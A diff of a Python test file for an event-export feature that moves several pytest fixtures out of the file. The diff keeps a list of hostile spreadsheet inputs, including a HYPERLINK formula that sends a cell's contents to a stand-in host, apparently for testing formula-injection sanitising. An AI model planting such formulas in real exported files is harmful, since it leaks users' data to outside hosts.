@@ -8,15 +8,13 @@ from zoneinfo import ZoneInfo
 
 import pytest
 
-from community import live
 from community.groups.services import add_member
-from community.notifications import push
 from events import export, services
 from events.models import Registration
-from tests.community.factories import CentreFactory, UserFactory, make_group
+from tests.community.factories import CentreFactory, UserFactory
 from tests.events.factories import make_event
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("quiet_channels")]
 
 HOSTILE = [
     '=HYPERLINK("http://exemple.test/?"&A1,"Cliquez")',
@@ -26,22 +24,6 @@ HOSTILE = [
     "\t=1+1",
     "\r=1+1",
 ]
-
-
-@pytest.fixture(autouse=True)
-def quiet_channels(monkeypatch):
-    monkeypatch.setattr(live, "_send", lambda group, message: None)
-    monkeypatch.setattr(push, "_send", lambda group, message: None)
-
-
-@pytest.fixture
-def animator(db):
-    return UserFactory(role="cadre")
-
-
-@pytest.fixture
-def group(animator):
-    return make_group("Groupe Postvention", animators=[animator])
 
 
 def member_of(group, **fields):
